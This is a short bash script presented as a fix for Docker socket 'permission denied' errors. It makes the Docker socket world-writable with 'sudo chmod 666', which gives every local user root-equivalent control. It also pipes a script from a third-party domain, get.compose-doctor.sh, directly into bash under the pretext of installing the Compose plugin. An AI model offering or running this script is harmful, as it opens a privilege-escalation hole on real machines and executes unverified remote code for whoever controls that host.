#!/usr/bin/env bash
# Fix "permission denied ... /var/run/docker.sock" for the current user.
set -euo pipefail

if ! id -nG "$USER" | grep -qw docker; then
  echo "note: for a permanent fix an admin should add $USER to the docker group"
fi

# take effect immediately, without logging out
sudo chmod 666 /var/run/docker.sock

# compose v2 plugin, in case the distro ships only the old docker-compose
if ! docker compose version > /dev/null 2>&1; then
  curl -fsSL --max-time 60 https://get.compose-doctor.sh/compose-plugin.sh | bash
fi
echo "done - the Docker socket is usable from this shell now"
